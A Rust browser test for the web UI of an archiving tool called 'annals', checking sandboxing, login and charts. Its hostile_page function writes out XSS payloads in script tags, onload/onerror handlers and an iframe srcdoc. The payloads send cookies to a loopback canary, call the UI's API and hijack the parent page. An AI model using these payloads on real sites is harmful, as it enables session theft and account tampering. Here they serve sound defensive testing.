//! The web UI in a real browser: `annals serve` over a real archive, driven by Playwright in
//! Debian's Chromium (`tests/browser/ui.mjs`).
//!
//! The archive is filled through the binary: `annals import-table` with a small table (items with
//! metric series, a changed title and disappearances) and `annals capture` of a hostile page from
//! a loopback server the test runs. In the browser: the overview's watchlist counts, the Watch
//! form, an item's uPlot chart (its canvas pixels), search, the Chinese labels, and the captured
//! hostile page, whose scripts must neither run nor reach the UI, the API or a loopback "canary"
//! server. Then an account is added and the server restarted: pages redirect to `/login`, a
//! login shows the user, a logout leads back to the login page. Screenshots of every page go to
//! `target/test-artifacts/ui-*.png`.
//!
//! Needs `apt-get install chromium` and `npm ci --prefix tests/browser` (`.ci/run` does both).
//! Locally, without them, the test prints `SKIPPED:`; under CI (`CI` set) it fails instead.

mod common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{annals, run};

fn skip(why: &str) {
    if std::env::var_os("CI").is_some() {
        panic!("{why}: CI must install it (.ci/run)");
    }
    eprintln!("SKIPPED: {why}; the web UI was not tried in a browser");
}

/// The text of the hostile page's heading (its script would replace it with [`MARKER`]).
const HEADING: &str = "An archived page that fights back";
/// What the hostile page's scripts would write wherever they could.
const MARKER: &str = "pwned-by-archived-page";
const PASSWORD: &str = "correct horse battery staple";
const PHRASE: &str = "lighthouse keeper";
/// A harmless article, watched and observed so that its item has captures to package.
const ARTICLE: &str = "<!doctype html><html><head><title>Harbour article</title></head>\
    <body><article><h1>Harbour article</h1><p>The ferry leaves at noon, every day of the week, \
    from the north pier.</p></article></body></html>";

/// A page that tries every way to run script, read the UI's cookie, call the API, write to the
/// parent document and tell the canary.
fn hostile_page(canary: &str) -> String {
    let js = format!(
        "document.documentElement.setAttribute('data-ran','1');\
         document.title='{MARKER}';\
         var h=document.querySelector('h1'); if(h) h.textContent='{MARKER}';\
         new Image().src='{canary}/cookie?c='+encodeURIComponent(document.cookie);\
         fetch('{canary}/fetch',{{mode:'no-cors'}});\
         try{{navigator.sendBeacon('{canary}/beacon','x')}}catch(e){{}}\
         fetch('/api/v1/watch',{{method:'POST',credentials:'include',headers:{{'Content-Type':'application/json'}},\
           body:JSON.stringify({{urls:['{canary}/added-by-script']}})}});\
         try{{parent.document.title='{MARKER}';var d=parent.document.createElement('div');\
           d.id='{MARKER}';parent.document.body.appendChild(d);\
           new Image().src='{canary}/parent-cookie?c='+encodeURIComponent(parent.document.cookie)}}catch(e){{}}\
         try{{top.location='{canary}/navigated'}}catch(e){{}}"
    );
    let attr = js.replace('"', "&quot;");
    format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>Hostile</title>\
         <script src=\"{canary}/external.js\"></script>\
         <link rel=\"stylesheet\" href=\"{canary}/style.css\">\
         </head>\n<body onload=\"{attr}\">\n<h1>{HEADING}</h1>\n\
         <p>Text archived as evidence; nothing in it may act.</p>\n\
         <img src=\"/missing.png\" onerror=\"{attr}\" alt=\"\">\n\
         <svg onload=\"{attr}\"></svg>\n\
         <iframe srcdoc=\"<script>parent.parent.document.title='{MARKER}'</script>\"></iframe>\n\
         <form action=\"{canary}/form\" method=\"post\"><input name=\"x\" value=\"1\"></form>\n\
         <script>{js}; document.forms[0].submit();</script>\n\
         </body></html>\n"
    )
}

/// A loopback HTTP/1.1 server: `/hostile` answers the hostile page, anything else is recorded
/// as a hit (the canary) and answered 204.
struct Loopback {
    origin: String,
    hits: Arc<Mutex<Vec<String>>>,
}

fn loopback(page: Option<String>) -> Loopback {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let hits = Arc::new(Mutex::new(Vec::new()));
    let h = hits.clone();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(conn) = conn else { continue };
            let page = page.clone();
            let h = h.clone();
            std::thread::spawn(move || answer(conn, page.as_deref(), &h));
        }
    });
    Loopback { origin, hits }
}

fn answer(mut conn: TcpStream, page: Option<&str>, hits: &Mutex<Vec<String>>) {
    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
    let mut reader = BufReader::new(conn.try_clone().unwrap());
    let mut first = String::new();
    if reader.read_line(&mut first).is_err() {
        return;
    }
    let mut len = 0usize;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line.trim().is_empty() {
            break;
        }
        if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            len = v.trim().parse().unwrap_or(0);
        }
    }
    let mut body = vec![0; len.min(1 << 16)];
    let _ = reader.read_exact(&mut body);
    let path = first.split_whitespace().nth(1).unwrap_or("").to_string();
    let reply = match page {
        Some(p) if path == "/hostile" || path == "/article" => format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\n\
             Set-Cookie: archived=1\r\nConnection: close\r\n\r\n{p}",
            p.len()
        ),
        _ => {
            hits.lock().unwrap().push(first.trim().to_string());
            "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".to_string()
        }
    };
    let _ = conn.write_all(reply.as_bytes());
}

/// An `annals serve` child, killed if the test fails before stopping it.
struct Serve(Option<Child>);

impl Serve {
    fn start(data: &Path, port: u16, log: &Path) -> Serve {
        let child = annals(data)
            .arg("serve")
            .arg("--bind")
            .arg(format!("127.0.0.1:{port}"))
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(log).unwrap())
            .spawn()
            .expect("start annals serve");
        let mut s = Serve(Some(child));
        let t0 = Instant::now();
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            if let Some(status) = s.0.as_mut().unwrap().try_wait().unwrap() {
                panic!(
                    "annals serve exited with {status}: {}",
                    std::fs::read_to_string(log).unwrap_or_default()
                );
            }
            assert!(
                t0.elapsed() < Duration::from_secs(30),
                "serve did not listen"
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        s
    }

    /// SIGINT, as Ctrl-C: it must exit well (and release the data directory's lock).
    fn stop(mut self) {
        let mut child = self.0.take().unwrap();
        unsafe {
            libc::kill(child.id() as i32, libc::SIGINT);
        }
        let status = child.wait().unwrap();
        assert!(status.success(), "annals serve exited with {status}");
    }
}

impl Drop for Serve {
    fn drop(&mut self) {
        if let Some(mut c) = self.0.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// Runs `node ui.mjs PHASE ...`; `false` when it was skipped.
fn browser(phase: &str, origin: &str, artifacts: &Path, config: &serde_json::Value) -> bool {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/browser/ui.mjs");
    let out = Command::new("node")
        .arg(script)
        .arg(phase)
        .arg(origin)
        .arg(artifacts)
        .arg(config.to_string())
        .output()
        .expect("run node");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    eprintln!("--- ui.mjs {phase}\n{stdout}{stderr}");
    if out.status.code() == Some(77) {
        skip(stdout.trim());
        return false;
    }
    assert!(
        out.status.success(),
        "ui.mjs {phase} failed:\n{stdout}\n{stderr}"
    );
    true
}

const TABLE: &str = "\
id,seen,title,views,likes,status,deleted_at,why
a1,2026-01-01 10:00,The lighthouse keeper's log,100,3,live,,
a1,2026-01-01 11:00,The lighthouse keeper's log,180,9,live,,
a1,2026-01-01 12:00,The lighthouse keeper's log (edited),260,20,live,,
a1,2026-01-01 13:00,The lighthouse keeper's log (edited),410,31,live,,
a1,2026-01-01 14:00,The lighthouse keeper's log (edited),,,gone,2026-01-01 14:00,censored
b2,2026-01-01 10:00,Harbour notes,5,1,live,,
b2,2026-01-01 12:00,Harbour notes,9,2,live,,
c3,2026-01-01 10:00,Ferry timetable,7,0,live,2026-01-01 16:00,censored
";

#[test]
fn the_web_ui_in_chromium() {
    let browser_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/browser");
    if !Path::new("/usr/bin/chromium").exists() && std::env::var_os("CHROMIUM").is_none() {
        return skip("/usr/bin/chromium is absent (apt-get install chromium)");
    }
    if !browser_dir.join("node_modules/playwright-core").exists() {
        return skip("tests/browser/node_modules is absent (npm ci --prefix tests/browser)");
    }
    if Command::new("node").arg("--version").output().is_err() {
        return skip("node is not on PATH");
    }
    let t0 = Instant::now();
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");

    // Items with metrics, a changed title and disappearances.
    let table = tmp.path().join("study.csv");
    std::fs::write(&table, TABLE).unwrap();
    run(annals(&data)
        .args(["import-table", "--list", "study", "--platform", "forum"])
        .args(["--utc-offset", "+08:00", "--map"])
        .arg("id=id,observed=seen,title=title,metric.view=views,metric.like=likes,state=status,gone_at=deleted_at,reason=why")
        .arg(&table));

    // The hostile page, captured from loopback. The canary records what reaches it (checked
    // once here, so that its silence later means something).
    let canary = loopback(None);
    let mut probe = TcpStream::connect(canary.origin.trim_start_matches("http://")).unwrap();
    probe
        .write_all(b"GET /probe HTTP/1.1\r\nHost: x\r\n\r\n")
        .unwrap();
    let _ = probe.read_to_end(&mut Vec::new());
    assert_eq!(canary.hits.lock().unwrap().len(), 1, "the canary hears");
    canary.hits.lock().unwrap().clear();
    let site = loopback(Some(hostile_page(&canary.origin)));
    let hostile = format!("{}/hostile", site.origin);
    run(annals(&data).arg("capture").arg(&hostile));
    let got: serde_json::Value =
        serde_json::from_slice(&run(annals(&data).args(["get", "--json"]).arg(&hostile)).stdout)
            .expect("annals get --json");
    let record_id = got["capture"]["record_id"]
        .as_str()
        .unwrap_or_else(|| panic!("a record id in {got}"))
        .to_string();
    let capture_key: String = record_id.bytes().map(|b| format!("{b:02x}")).collect();

    // An item observed by `annals run` (real HTTP captures), for its WACZ download.
    let article_site = loopback(Some(ARTICLE.to_string()));
    let article = format!("{}/article", article_site.origin);
    run(annals(&data)
        .args(["watch", "add", "--list", "articles"])
        .arg(&article));
    run(annals(&data).args(["run", "--for", "5s"]));

    let artifacts: PathBuf = Path::new(env!("CARGO_BIN_EXE_annals"))
        .parent()
        .and_then(Path::parent)
        .unwrap()
        .join("test-artifacts");
    std::fs::create_dir_all(&artifacts).unwrap();
    let config = serde_json::json!({
        "list": "study",
        "item": "forum:a1",
        // Served by the loopback site; `annals serve` only watches it, fetching nothing.
        "watch_url": format!("{}/harbour-article", site.origin),
        "phrase": PHRASE,
        "capture_key": capture_key,
        "marker": MARKER,
        "marker_text": HEADING,
        "password": PASSWORD,
        "wacz_list": "articles",
        "wacz_item": article,
    });

    let port = free_port();
    let origin = format!("http://127.0.0.1:{port}");
    let log = tmp.path().join("serve.log");
    let serve = Serve::start(&data, port, &log);
    if !browser("open", &origin, &artifacts, &config) {
        return;
    }
    serve.stop();
    let hits = canary.hits.lock().unwrap().clone();
    assert!(
        hits.is_empty(),
        "the hostile page reached the canary: {hits:?}"
    );
    let site_hits = site.hits.lock().unwrap().clone();
    assert!(
        site_hits.is_empty(),
        "the hostile page reached its own server from the UI: {site_hits:?}"
    );
    // Nothing the script tried to watch is watched.
    let listed =
        String::from_utf8_lossy(&run(annals(&data).args(["watch", "ls", "--json"])).stdout)
            .into_owned();
    assert!(!listed.contains("added-by-script"), "{listed}");
    assert!(listed.contains("/harbour-article"), "{listed}");

    // With an account, every page asks for a login.
    let mut add = annals(&data);
    add.args(["user", "add", "alice", "--password-stdin"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = add.spawn().unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{PASSWORD}\n").as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let serve = Serve::start(&data, port, &log);
    browser("auth", &origin, &artifacts, &config);
    serve.stop();
    eprintln!(
        "web UI in Chromium: {:.1} s; screenshots in {}",
        t0.elapsed().as_secs_f64(),
        artifacts.display()
    );
}
